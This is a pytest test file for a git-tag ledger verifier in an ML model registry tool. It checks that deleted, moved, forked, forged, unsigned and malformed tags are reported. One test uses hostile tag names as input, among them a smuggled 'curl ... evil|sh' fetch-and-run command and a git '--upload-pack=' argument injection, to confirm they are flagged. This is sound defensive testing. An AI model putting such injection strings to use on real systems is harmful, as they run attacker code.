"""What is not as it was written is found, and named."""

from dataclasses import replace

import pytest

from mltool.registry import verify
from mltool.registry.model import Finding, TagObject
from mltool.registry.verify import Elsewhere
from support.story import HOUR, Story


def found(story: Story, **more: object) -> list[tuple[str, str]]:
    return [(item.kind, item.tag) for item in findings(story, **more)]


def findings(story: Story, **more: object) -> tuple[Finding, ...]:
    return verify.findings(story.tags, story.heads, **more)  # type: ignore[arg-type]  # passed on


@pytest.fixture
def told(story: Story) -> Story:
    """Return a ledger of two versions, one of them promoted."""
    story.tag("delay@v0.9.0", commit="commit-of-0.9.0")
    story.write("register", "1.0.0")
    story.write("promote", "1.0.0", "prod")
    story.write("register", "1.1.0")
    story.write("promote", "1.1.0", "prod")
    return story


def named(story: Story, name: str) -> TagObject:
    return next(tag for tag in story.tags if tag.name == name)


def test_a_whole_ledger_has_no_findings(told: Story) -> None:
    assert findings(told) == ()
    told.heads.clear()
    assert findings(told) == ()


@pytest.mark.parametrize("name", ["delay@v1.0.0", "delay#prod#2", "delay@v1.1.0", "delay#prod#4"])
def test_a_tag_that_was_deleted_is_named(told: Story, name: str) -> None:
    told.drop(named(told, name))
    (finding,) = [item for item in findings(told) if item.kind == "deleted"]
    assert finding.tag == name
    assert finding.stops == (name == "delay#prod#4")


def test_the_newest_event_counts_no_more_when_its_tag_was_deleted_and_every_reader_is_told(told: Story) -> None:
    told.drop(named(told, "delay#prod#4"))
    assert told.model().stages["prod"].version == "1.0.0"
    assert told.ledger().foreign == findings(told)
    assert "`git update-ref 'refs/tags/delay#prod#4' " in findings(told)[0].sentence


def test_a_ref_that_names_what_never_was_a_tag_promotes_nothing(told: Story) -> None:
    forged = told.write("promote", "1.0.0", "prod")
    told.drop(forged)
    assert told.model().stages["prod"].version == "1.1.0"
    assert [(item.kind, item.tag, item.stops) for item in findings(told)] == [("deleted", "delay#prod#5", True)]


@pytest.mark.parametrize("name", ["delay@v1.0.0", "delay#prod#2", "delay@v1.1.0", "delay#prod#4"])
def test_a_tag_that_was_moved_is_named_and_counts_for_nothing(told: Story, name: str) -> None:
    told.move(named(told, name), commit="evil", message="moved\n")
    assert ("moved", name) in found(told)
    assert all(event.tag.commit != "evil" for event in told.model().events)


def test_a_version_moved_to_another_commit_is_not_registered_any_more(told: Story) -> None:
    told.move(named(told, "delay@v1.1.0"), commit="evil")
    assert [event.version for event in told.model().versions] == ["0.9.0", "1.0.0"]
    assert [item.stops for item in findings(told) if item.kind == "moved"] == [True]


def test_a_forged_event_in_the_place_of_a_deleted_one_is_not_taken_for_it(told: Story) -> None:
    head = told.heads["delay"]
    told.drop(named(told, "delay@v1.1.0"))
    told.write("promote", "0.9.0", "prod", follows=named(told, "delay#prod#2"))
    told.heads["delay"] = head
    assert found(told) == [("forked", "delay#prod#3"), ("deleted", "delay@v1.1.0")]


def test_numbers_that_lead_in_a_circle_come_to_an_end(told: Story) -> None:
    """An event with a high number follows what is gone, and one with a low number follows it."""
    gone = told.write("hold", "1.0.0", model="m")
    nine = replace(gone, object="0" * 40, message=gone.message.replace("Position: 1", "Position: 9"))
    ten = told.write("hold", "1.0.0", model="m", follows=nine)
    told.write(
        "unhold", "1.0.0", model="m", follows=replace(ten, message=ten.message.replace("Position: 10", "Position: 2"))
    )
    told.drop(gone)
    assert told.order("m") == ["mltool/hold/m/10", "mltool/unhold/m/3"]
    assert {item.kind for item in findings(told)} == {"broken", "deleted"}


def test_a_fork_is_named_and_the_ref_decides(told: Story) -> None:
    head = told.heads["delay"]
    told.write("rollback", "1.0.0", "prod", follows=named(told, "delay#prod#2"))
    told.heads["delay"] = head
    assert found(told) == [("forked", "delay#prod#3")]
    assert told.model().stages["prod"].version == "1.1.0"
    assert not findings(told)[0].stops
    told.heads.clear()
    assert findings(told)[0].stops


def test_a_second_beginning_is_a_fork(told: Story) -> None:
    head = told.heads.pop("delay")
    told.write("register", "5.0.0", follows=None)
    told.heads["delay"] = head
    assert found(told) == [("forked", "delay@v5.0.0")]
    assert "5.0.0" not in [event.version for event in told.model().versions]


def test_an_event_before_its_predecessor_is_back_dated(told: Story) -> None:
    told.write("promote", "1.0.0", "dev", date=told.clock - 2 * HOUR)
    (finding,) = findings(told)
    assert (finding.kind, finding.tag, finding.stops) == ("back-dated", "delay#dev#5", False)
    assert finding.sentence.startswith("delay#dev#5 is dated 2 hours before delay#prod#4, which it follows.")


def test_clocks_may_differ_by_minutes(told: Story) -> None:
    told.write("promote", "1.0.0", "dev", date=told.clock - 240)
    assert findings(told) == ()


def test_a_lightweight_tag_is_named_and_counts_for_nothing(told: Story) -> None:
    told.tag("delay#prod#9", commit="evil")
    told.tags[-1] = replace(told.tags[-1], annotated=False)
    assert found(told) == [("lightweight", "delay#prod#9")]
    assert told.model().stages["prod"].version == "1.1.0"


def test_gto_after_a_chain_has_begun_is_named(told: Story) -> None:
    told.tag("delay#prod#9", commit="commit-of-1.0.0")
    assert found(told) == [("foreign", "delay#prod#9")]


def test_a_number_that_nobody_counted_to_does_not_lead_the_chain_out_of_the_grammar(told: Story) -> None:
    told.tag(f"delay#prod#{10**18 - 1}", commit="commit-of-1.0.0")
    (finding,) = findings(told)
    assert finding.sentence == f"delay#prod#{10**18 - 1} has a number that nobody counted to; it counts for nothing."
    assert told.model().stages["prod"].version == "1.1.0"


@pytest.mark.parametrize(
    "name", ["delay@v1.0.0;curl${IFS}evil|sh", "--upload-pack=m@v1.0.0", "mltool/run/delay/1", "a#b#c#d"]
)
def test_a_name_that_only_looks_like_an_event_is_named(told: Story, name: str) -> None:
    told.tag(name)
    assert found(told) == [("foreign", name)]


def test_other_tags_are_nobodys_business(told: Story) -> None:
    for name in ("v1.0.0", "release/7", "nightly"):
        told.tag(name)
    assert findings(told) == ()


class TestBroken:
    """Trailers that contradict the name that they stand under."""

    @pytest.mark.parametrize(
        ("before", "after", "why"),
        [
            ("Mltool-Event: hold", "Mltool-Event: promote", "says that it is a promote"),
            ("Mltool-Event: hold", "Mltool-Event: explode", "says that it is a explode"),
            ("Mltool-Model: delay", "Mltool-Model: other", "says something else than its name: other 1.0.0"),
            ("Mltool-Position: 5", "Mltool-Position: 7", "says that it is number 7"),
            ("Mltool-Position: 5", "Mltool-Position: -5", "does not say its position"),
            ("Mltool-Position: 5", "Mltool-Position: 5\nMltool-Position: 5", "says Mltool-Position twice"),
            ("Mltool-Prev:", "X-Prev:", "does not say which event it follows"),
            ("Version: v1.0.0", "Version: v../x", "names the version ../x, which is none"),
            (
                "Mltool-Position",
                "Mltool-Stage: ../x\nMltool-Position",
                "names the environment ../x, and none can be called so",
            ),
            (
                "Mltool-Position",
                "Mltool-Manifest: sha256:../../x\nMltool-Position",
                "names its manifest by something else than a digest",
            ),
        ],
    )
    def test_a_contradiction_counts_for_nothing(self, told: Story, before: str, after: str, why: str) -> None:
        head = told.heads["delay"]
        tag = told.write("hold", "1.0.0")
        assert before in tag.message
        told.tags[-1] = replace(tag, message=tag.message.replace(before, after, 1))
        told.heads["delay"] = head
        (finding,) = findings(told)
        assert (finding.kind, finding.sentence) == ("broken", f"mltool/hold/delay/5 {why}; it counts for nothing.")
        assert told.model().held == {}

    def test_a_tag_under_another_name(self, told: Story) -> None:
        told.tags.append(replace(named(told, "delay@v1.1.0"), name="delay@v7.0.0"))
        assert found(told) == [("broken", "delay@v7.0.0")]

    def test_a_tag_that_leads_to_no_commit(self, told: Story) -> None:
        told.tag("delay@v7.0.0")
        told.tags[-1] = replace(told.tags[-1], commit="")
        assert found(told) == [("broken", "delay@v7.0.0")]

    def test_a_promotion_of_what_was_never_registered(self, told: Story) -> None:
        told.write("promote", "8.0.0", "prod")
        assert found(told) == [("broken", "delay#prod#5")]

    def test_a_ref_that_names_no_event_of_its_model(self, told: Story) -> None:
        told.heads["delay"] = named(told, "delay@v0.9.0")
        assert found(told) == [("broken", "delay@v0.9.0")]
        assert findings(told)[0].stops


class TestAdoption:
    """The first event of a chain says which tags of GTO were there."""

    def test_one_that_is_gone(self, told: Story) -> None:
        told.drop(named(told, "delay@v0.9.0"))
        assert found(told) == [("deleted", "delay@v1.0.0")]

    def test_one_that_is_another_one(self, told: Story) -> None:
        told.move(named(told, "delay@v0.9.0"), commit="evil")
        assert found(told) == [("moved", "delay@v1.0.0")]

    def test_one_more(self, told: Story) -> None:
        told.tag("delay@v0.8.0", commit="evil")
        assert found(told) == [("foreign", "delay@v1.0.0")]


class TestSignatures:
    """Who signed, where that is asked for."""

    def test_nobody_is_asked_for_a_signature_where_nobody_signs(self, told: Story) -> None:
        assert findings(told) == ()

    def test_an_unsigned_event_after_signed_ones_is_named(self, told: Story) -> None:
        told.write("hold", "1.0.0", signed=True)
        told.write("unhold", "1.0.0")
        assert found(told) == [("unsigned", "mltool/unhold/delay/6")]

    def test_with_allowed_signers_every_event_must_have_one(self, told: Story) -> None:
        good = told.write("hold", "1.0.0", signed=True)
        told.write("unhold", "1.0.0", signed=True)
        told.write("hold", "1.0.0")
        tags = [
            "delay@v1.0.0",
            "delay#prod#2",
            "delay@v1.1.0",
            "delay#prod#4",
            "mltool/unhold/delay/6",
            "mltool/hold/delay/7",
        ]
        assert found(told, signers={good.object: "ada"}) == [("unsigned", name) for name in tags]


class TestElsewhere:
    """A remote that says something else."""

    def there(self, story: Story, **changed: str | None) -> Elsewhere:
        tags = {tag.name: tag.object for tag in story.tags} | changed
        heads = {model: tag.object for model, tag in story.heads.items()}
        return Elsewhere(name="origin", tags={name: sha for name, sha in tags.items() if sha}, heads=heads)

    def test_the_same_there_is_whole(self, told: Story) -> None:
        assert findings(told, elsewhere=self.there(told)) == ()

    def test_moved_there(self, told: Story) -> None:
        there = self.there(told, **{"delay#prod#2": "f" * 40})
        assert found(told, elsewhere=there) == [("moved", "delay#prod#2")]

    def test_deleted_there(self, told: Story) -> None:
        (finding,) = findings(told, elsewhere=self.there(told, **{"delay#prod#4": None}))
        assert (finding.kind, finding.stops) == ("deleted", True)
        assert "`git push origin 'refs/tags/delay#prod#4'`" in finding.sentence

    def test_no_ref_there(self, told: Story) -> None:
        there = replace(self.there(told), heads={})
        assert found(told, elsewhere=there) == [("broken", "delay#prod#4")]
